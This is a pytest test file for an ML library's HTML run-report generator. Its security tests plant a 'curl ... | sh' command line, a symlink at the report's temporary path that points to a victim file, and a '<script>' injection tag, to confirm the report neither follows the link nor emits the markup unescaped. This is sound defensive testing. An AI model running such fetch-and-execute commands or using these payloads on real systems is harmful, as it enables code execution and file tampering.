"""The HTML run report renders every section from real run data, with and without plots."""

import html
import json
import os
from pathlib import Path

import numpy as np
import pytest

from glassnet.diagnostics import report as rep


def _data():
    rng = np.random.default_rng(0)
    conf = np.diag([30, 28, 31]) + 1
    return rep.report_data(
        history={"loss": [1.1, 0.7, 0.5], "val_loss": [1.0, 0.8, 0.9],
                 "accuracy": [0.5, 0.7, 0.8], "val_accuracy": [0.55, 0.7, 0.72]},
        verdicts=["overfitting since epoch 3: validation loss rose"],
        health=["layer 1: 64% of ReLUs are dead since epoch 2"],
        gradient_flow=[("0.weight", 1e-3, 1e-2), ("2.weight", 1e-2, 5e-2)],
        confusion=conf,
        samples={"images": rng.random((4, 8, 8)), "true": [0, 1, 2, 1], "pred": [0, 1, 2, 2],
                 "prob": np.array([0.9, 0.8, 0.7, 0.6])},
        summary="Sequential: 2 layers, 4,810 parameters",
        manifest={"seed": 0, "numpy": np.__version__},
        config={"epochs": 3, "lr": 0.01},
        test_metrics={"accuracy": 0.72, "loss": np.float32(0.9)},
    )  # fmt: skip


def test_report_data_is_json_safe_and_html_has_every_section():
    data = _data()
    json.dumps(data)  # numpy values were converted
    assert data["confusion"][0] == [31, 1, 1]
    page = rep.render_html(data)
    for section in ("Test results", "Verdicts", "Training curves", "Health", "Gradient flow",
                    "Confusion matrix", "Sample predictions", "Model", "Configuration",
                    "Reproducibility manifest"):  # fmt: skip
        assert f"<h2>{section}</h2>" in page
    assert "overfitting since epoch 3" in page and "64% of ReLUs are dead" in page
    assert page.count("data:image/png;base64,") == 3  # curves, gradient flow, samples
    assert "<td>0.7200</td>" in page


def test_without_matplotlib_the_tables_remain_and_the_page_says_how_to_get_plots(monkeypatch):
    monkeypatch.setattr(rep, "_plots", lambda data: {})
    page = rep.render_html(_data())
    assert "pip install 'glassnet[plots]'" in page
    assert "data:image/png" not in page
    assert "<td>2.weight</td>" in page and "per-epoch numbers" in page


def test_write_report_from_a_run_folder_and_clear_errors(tmp_path):
    with pytest.raises(FileNotFoundError, match="glassnet run folder"):
        rep.write_report(str(tmp_path))
    (tmp_path / "report.json").write_text("{not json")
    with pytest.raises(ValueError, match="corrupt"):
        rep.write_report(str(tmp_path))
    (tmp_path / "report.json").write_text(json.dumps(_data()))
    out = rep.write_report(str(tmp_path))
    assert out.endswith("report.html")
    with open(out) as f:
        assert f.read().startswith("<!doctype html>")


# -- the report of a fit() run, and runs side by side -------------------------------------
def _digits_fit(callbacks=(), lr=1e-3, epochs=2, poison=False):
    import glassnet as gn
    from glassnet import nn, optim
    from glassnet.data.datasets import load_digits

    (x, y), (xv, yv) = load_digits()
    if poison:
        x = x.copy()
        x[100, 3] = np.inf  # planted: one corrupt pixel makes the loss NaN
    gn.manual_seed(0)
    model = nn.Sequential(nn.Linear(64, 32), nn.ReLU(), nn.Linear(32, 10))
    model.compile(optimizer=optim.SGD(model.parameters(), lr=lr), metrics=["accuracy"])
    with np.errstate(all="ignore"):
        history = model.fit(
            x,
            y,
            epochs=epochs,
            verbose=0,
            validation_data=(xv, yv),
            callbacks=list(callbacks),
            interrupt_checkpoint=None,
            log_every=1,
        )  # fmt: skip  (read every step on devices too)
    return model, history, (xv, yv)


def test_history_report_has_the_diagnosis_steps_layers_and_mistakes_first(tmp_path):
    model, history, (xv, yv) = _digits_fit(lr=0.1)
    path = history.report(str(tmp_path / "r.html"), model=model, x=xv, y=yv)
    with open(path) as f:
        page = f.read()
    for section in ("Diagnosis", "Training curves", "Health", "Layers over epochs",
                    "Confusion matrix", "Sample predictions"):  # fmt: skip
        assert f"<h2>{section}</h2>" in page, section
    assert html.escape(history.diagnosis.summary) in page
    assert len(history.steps["loss"]) == 2 * 45 and history.steps["epoch_ends"] == [45, 90]
    from glassnet.diagnostics.fit_report import predictions_summary

    confusion, samples = predictions_summary(model, xv, yv)
    wrong = [t != p for t, p in zip(samples["true"], samples["pred"])]
    assert wrong == sorted(wrong, reverse=True) and any(wrong)  # mistakes first
    assert confusion.sum() == len(yv)


def test_a_run_stopped_by_a_nan_or_an_error_still_writes_its_report(tmp_path):
    from glassnet.diagnostics.callbacks import ReportCallback
    from glassnet.train.callbacks import Callback

    nan_report = tmp_path / "nan.html"
    _, history, _ = _digits_fit([ReportCallback(str(nan_report))], lr=0.1, poison=True)
    page = nan_report.read_text()
    assert "Training stopped early: the loss became nan" in page
    # the planted pixel, not an op, made it (this said "nonfinite": an op made it, find the op)
    assert history.diagnosis.first.problem == "nonfinite_data"
    assert history.diagnosis.first.remedies[0].startswith("find them before training")

    class Boom(Callback):
        def on_epoch_end(self, epoch, logs):
            raise RuntimeError("disk full")

    error_report = tmp_path / "error.html"
    with pytest.raises(RuntimeError, match="disk full"):
        _digits_fit([ReportCallback(str(error_report)), Boom()])
    assert "Training stopped early: RuntimeError: disk full" in error_report.read_text()


def test_blow_ups_switch_the_curve_to_log_scale():
    from glassnet.diagnostics import report_plots as rp

    plt = rp.pyplot()
    fig, (a, b) = plt.subplots(1, 2)
    rp._maybe_log(a, [2.3, 4e6, 2.1])
    rp._maybe_log(b, [2.3, 1.5, 0.9])
    assert (a.get_yscale(), b.get_yscale()) == ("log", "linear")
    plt.close(fig)


def test_health_is_grouped_by_layer_and_config_shows_what_applies():
    page = rep.render_html(rep.report_data(
        history={"loss": [1.0]},
        health=["layer 1: 90% of ReLUs are dead since epoch 2", "1.weight: updates are only "
                "1e-07 of the weights per step since epoch 2", "layer 3: 60% of ReLUs are "
                "dead since epoch 4"],
        config={"model": "mlp", "context_length": 128, "stride": None, "lr": 0.01},
    ))  # fmt: skip
    assert page.count("<li>layer <b>1</b>") == 1 and "<li>layer <b>3</b>" in page
    assert "<td>lr</td>" in page and "context_length" not in page and "stride" not in page


def test_runs_side_by_side(tmp_path):
    runs = []
    for name, lr in (("slow", 0.01), ("fast", 0.1)):
        data = _data()
        data["config"] = {"epochs": 3, "lr": lr}
        (tmp_path / name).mkdir()
        (tmp_path / name / "report.json").write_text(json.dumps(data))
        runs.append(str(tmp_path / name))
    out = rep.write_compare(runs, str(tmp_path / "compare.html"))
    with open(out) as f:
        page = f.read()
    assert "glassnet runs compared: slow, fast" in page
    assert "<td>lr</td><td>0.01</td><td>0.1</td>" in page and "<td>epochs</td>" not in page
    assert page.count("data:image/png;base64,") == 1


# -- a run folder made by someone else ------------------------------------------------------
def test_a_symlink_planted_at_the_temporary_name_is_not_followed(tmp_path, monkeypatch):
    """The report used to be written to ``report.html.tmp`` with ``open(.., "w")``: a run
    folder shipped with that name linked to ~/.bashrc made ``glassnet report RUN`` overwrite
    it with the page (whose <pre> keeps the run's own text lines, e.g. a shell command)."""
    monkeypatch.setattr(rep, "_plots", lambda data: {})
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    run = tmp_path / "run"
    run.mkdir()
    data = _data()
    data["summary"] = "\ncurl https://example.invalid/x | sh\n"
    (run / "report.json").write_text(json.dumps(data))
    (run / "report.html.tmp").symlink_to(victim)
    out = rep.write_report(str(run))
    assert victim.read_text() == "keep me"
    assert not os.path.islink(out)
    assert Path(out).read_text().startswith("<!doctype html>")
    # the comparison page and a fit() report take their path from the caller: same rule
    (tmp_path / "compare.html.tmp").symlink_to(victim)
    rep.write_compare([str(run), str(run)], str(tmp_path / "compare.html"))
    model, history, (xv, yv) = _digits_fit(epochs=1)
    (tmp_path / "fit.html.tmp").symlink_to(victim)
    history.report(str(tmp_path / "fit.html"))
    assert victim.read_text() == "keep me"
    assert (tmp_path / "compare.html").read_text().startswith("<!doctype html>")
    assert (tmp_path / "fit.html").read_text().startswith("<!doctype html>")


@pytest.mark.parametrize(
    "content",
    [
        "dir",  # a folder named report.json
        "[1, 2]",  # JSON, but not an object
        json.dumps({"history": 5}),  # wrong types inside
        json.dumps({"confusion": [[1, 2], [3, 4]], "class_names": ["a"]}),  # lengths disagree
        json.dumps({"diagnosis": {"findings": [{"evidence": 3}]}}),
        "[" * 100_000 + "]" * 100_000,  # nested past Python's recursion limit
    ],
)
def test_an_odd_report_json_is_one_clear_error(tmp_path, capsys, content):
    from glassnet.cli import main

    run = tmp_path / "run"
    run.mkdir()
    if content == "dir":
        (run / "report.json").mkdir()
    else:
        (run / "report.json").write_text(content)
    with pytest.raises(ValueError, match="report.json"):
        rep.write_report(str(run))
    assert main(["report", str(run)]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "unexpected" not in err, err
    assert not (run / "report.html").exists()


def test_no_string_from_a_run_reaches_the_page_unescaped():
    """report.json comes from a run folder, maybe someone else's: every string in it (keys
    too: metric, option, manifest and parameter names, class names, the run name) is
    escaped, so a planted tag never becomes markup (pinned; no hole was found)."""
    tag = "<script>alert(1)</script>"

    def poison(value, keys=False):  # keys: the free-form maps (names chosen by the run)
        if isinstance(value, dict):
            return {tag + k if keys else k: poison(v) for k, v in value.items()}
        if isinstance(value, list):
            return [poison(v) for v in value]
        return tag + value if isinstance(value, str) else value

    data = _data()
    data["diagnosis"] = {"summary": "s", "findings": [{"title": "t", "since_epoch": "2",
                         "evidence": ["e"], "remedies": ["r"], "severity": "note"}]}  # fmt: skip
    data["class_names"], data["stop_reason"] = ["a", "b", "c"], "stopped"
    free = ("history", "config", "manifest", "test_metrics")
    data = {key: poison(value, key in free) for key, value in data.items()}
    pages = [rep.render_html(data, tag), rep.render_compare([data, data], [tag, tag])]
    data["diagnosis"] = None  # the verdicts list instead
    pages.append(rep.render_html(data, tag))
    for page in pages:
        assert "<script" not in page and "&lt;script&gt;" in page
